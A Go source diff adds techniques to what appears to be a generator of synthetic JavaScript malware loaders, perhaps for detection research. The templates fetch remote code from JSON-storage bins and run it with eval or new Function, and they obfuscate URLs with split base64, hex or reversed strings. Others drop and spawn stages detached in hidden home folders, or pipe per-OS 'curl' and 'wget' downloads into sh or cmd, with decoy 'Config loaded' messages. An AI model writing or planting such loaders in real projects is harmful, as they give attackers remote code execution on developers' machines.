@@ -172,6 +172,16 @@ func (g *gen) payload(t Technique, esm bool) string {
 		code = g.fetchThen(expr, esm, arg, g.sink(RemoteEval, arg))
 	case ShuffleLoader:
 		code = g.shuffleLoader(u)
+	case JSONStorage:
+		code = g.jsonStorage(esm)
+	case SplitEncoded:
+		code = g.fetchThen(g.splitEncoded(u, esm), esm, arg, g.sink(g.pickSink(), arg))
+	case DropAndRun:
+		code = g.dropAndRun(u)
+	case StagedWriter:
+		code = g.stagedWriter(u)
+	case ExecShellString:
+		code = g.execShellString()
 	case StealerPaths:
 		code = g.stealer(esm)
 	case EnvExfil:
@@ -439,4 +449,156 @@ func (g *gen) shuffleLoader(u string) string {
 	tag := fmt.Sprintf("%d-%d-%d", 1+g.rng.IntN(9), 1+g.rng.IntN(9), 100+g.rng.IntN(900))
 	return fmt.Sprintf("global['_V']='%s';global['r']=require;var %s=(function(m,s){var l=m.length;var o=[];for(var i=0;i<l;i++){o[i]=m.charAt(i)};for(var i=0;i<l;i++){var j=s*(i+123)+(s%%19391);var w=s*(i+511)+(s%%18031);var q=j%%l;var y=w%%l;var b=o[q];o[q]=o[y];o[y]=b;s=(j+w)%%3731049;};return o.join('')})(%s,%d);Function(%s)();",
 		tag, v, strconv.Quote(string(b)), seed, v)
+}
+
+// jsonStorage fetches a JSON document from a JSON-storage service and runs
+// one of its fields, as the loaders that keep their code in a bin do:
+// axios.get(bin).then(res => new Function('require', res.data.cookie)(require)).
+func (g *gen) jsonStorage(esm bool) string {
+	u := g.pick([]string{
+		"https://api.jsonstore.example-bin.invalid/v3/b/66f1c2a9e41b4d34e4a9",
+		"https://json-keeper.example.invalid/b/ZX3Q",
+		"https://api.npoint.example.invalid/1f901a22daea7694face",
+	})
+	field := g.pick([]string{"cookie", "model", "content", "record.handler", "data.settings"})
+	run := g.pick([]string{
+		"new Function('require', %s)(require);",
+		"eval(%s);",
+		"const h = new (Function.constructor)('require', %s);\n    h(require);",
+		"Object.getPrototypeOf(async function () {}).constructor('require', %s)(require);",
+	})
+	g.variant = field
+	if esm || g.rng.IntN(2) == 0 {
+		return fmt.Sprintf("(async () => {\n  try {\n    const r = await fetch(%q, { headers: { 'X-Master-Key': 'read' } });\n    const doc = await r.json();\n    %s\n  } catch (e) {\n    console.log('Config loaded');\n  }\n})();",
+			u, fmt.Sprintf(run, "doc."+field))
+	}
+	return fmt.Sprintf("(() => {\nconst http = require('axios');\nconst loadConfig = async () => {\n  const res = await http.get(%q);\n  return res.data;\n};\nloadConfig()\n  .then((cfg) => {\n    %s\n  })\n  .catch(() => console.log('Config loaded'));\n})();",
+		u, fmt.Sprintf(run, "cfg."+field))
+}
+
+// splitEncoded writes u base64-, hex- or reverse-encoded and cut into
+// pieces that are joined at run time, so no one literal decodes.
+func (g *gen) splitEncoded(u string, esm bool) string {
+	var enc string
+	var wrap string
+	switch g.rng.IntN(3) {
+	case 0:
+		g.variant = "base64-split"
+		enc = base64.StdEncoding.EncodeToString([]byte(u))
+		wrap = "atob(%s)"
+		if !esm {
+			wrap = "Buffer.from(%s, 'base64').toString()"
+		}
+	case 1:
+		g.variant = "hex-split"
+		enc = hex.EncodeToString([]byte(u))
+		wrap = "Buffer.from(%s, 'hex').toString()"
+		if esm {
+			wrap = "new TextDecoder().decode(Uint8Array.from(%s.match(/../g).map((h) => parseInt(h, 16))))"
+		}
+	default:
+		g.variant = "reversed-split"
+		b := []byte(u)
+		for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
+			b[i], b[j] = b[j], b[i]
+		}
+		enc = string(b)
+		wrap = "%s.split('').reverse().join('')"
+	}
+	n := 3 + g.rng.IntN(3)
+	var parts []string
+	for i := 0; i < n; i++ {
+		a, b := i*len(enc)/n, (i+1)*len(enc)/n
+		parts = append(parts, strconv.Quote(enc[a:b]))
+	}
+	joined := "(" + strings.Join(parts, " + ") + ")"
+	if g.rng.IntN(2) == 0 {
+		joined = "[" + strings.Join(parts, ", ") + "].join('')"
+	}
+	return fmt.Sprintf(wrap, joined)
+}
+
+// dropAndRun downloads the stage into a file and runs the file: require
+// of a written temp file, or the file piped to disk and spawned detached.
+func (g *gen) dropAndRun(u string) string {
+	name := g.pick([]string{".npl", "sync.js", ".n2/pay", "p.zi"})
+	if g.rng.IntN(2) == 0 {
+		g.variant = "write-require"
+		return fmt.Sprintf(`(() => {
+const fs = require('fs');
+const path = require('path');
+const os = require('os');
+const target = path.join(os.tmpdir(), %q);
+require('axios')
+  .get(%q, { responseType: 'text' })
+  .then((res) => {
+    fs.mkdirSync(path.dirname(target), { recursive: true });
+    fs.writeFileSync(target, res.data);
+    require(target);
+  })
+  .catch(() => {});
+})();`, name, u)
+	}
+	g.variant = "pipe-spawn"
+	return fmt.Sprintf(`(() => {
+const fs = require('fs');
+const path = require('path');
+const { spawn } = require('child_process');
+const file = path.join(require('os').homedir(), %q);
+require('https').get(%q, (res) => {
+  fs.mkdirSync(path.dirname(file), { recursive: true });
+  const out = fs.createWriteStream(file);
+  res.pipe(out);
+  out.on('finish', () => {
+    spawn(process.execPath, [file], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
+  });
+}).on('error', () => {});
+})();`, name, strings.Replace(u, "http://", "https://", 1))
+}
+
+// stagedWriter writes the loader as a string (a template literal or a
+// '+' chain), saves it in a folder under the home directory and starts
+// it with node, as the BestCity cluster's font payload does.
+func (g *gen) stagedWriter(u string) string {
+	dir := g.pick([]string{"Programs_X64", ".vscode-server-cache", ".npm-tools"})
+	var loader string
+	if g.rng.IntN(2) == 0 {
+		g.variant = "template"
+		loader = fmt.Sprintf("`const axios = require(\"axios\"); const url = \"%s\"; axios.post(url, {}, { headers: { \"x-secret-header\": \"secret\" } }).then((response) => { eval(response.data); }).catch(() => false);`", u)
+	} else {
+		g.variant = "chain"
+		loader = fmt.Sprintf("\"const source = '\" + __filename.replace(/\\\\/g, '/') + \"';\"\n  + \" const url = '%s';\"\n  + \"const axios = require('axios');\"\n  + \"axios.get(url, { headers: { 'x-secret-header': 'secret' } }).catch(function (err) {\"\n  + \"const error = err.response.data;\"\n  + \"const handler = new Function('require', error);\"\n  + \"handler(require);\"\n  + \"});\"", u)
+	}
+	return fmt.Sprintf(`(() => {
+const fs = require('fs');
+const path = require('path');
+const os = require('os');
+const { exec } = require('child_process');
+const target = path.join(os.homedir(), %q);
+const run = %s;
+try {
+  fs.mkdirSync(target, { recursive: true });
+  fs.writeFileSync(path.join(target, 'main.js'), run);
+} catch (e) {}
+const cmd = os.platform() === 'win32'
+  ? 'cd "' + target + '" && powershell -Command "Start-Process node -ArgumentList main.js -WindowStyle Hidden"'
+  : 'cd "' + target + '" && npm init -y >/dev/null && npm install axios >/dev/null 2>&1 && nohup node main.js > /dev/null 2>&1 &';
+exec(cmd, { windowsHide: true }, () => {});
+})();`, dir, loader)
+}
+
+// execShellString keeps a download-and-run command per OS in the code
+// and runs the one for this machine with child_process.
+func (g *gen) execShellString() string {
+	u := g.pick(shellURLs)
+	return fmt.Sprintf(`(() => {
+const os = require('os');
+const { exec } = require('child_process');
+const commands = {
+  win32: 'powershell.exe -WindowStyle Hidden -Command "curl %s?os=win | cmd"',
+  darwin: "curl -s '%s?os=mac' | sh",
+  linux: "wget -qO- '%s?os=linux' | sh",
+};
+exec(commands[os.platform()] || commands.linux, { windowsHide: true }, () => {});
+})();`, u, u, u)
 }
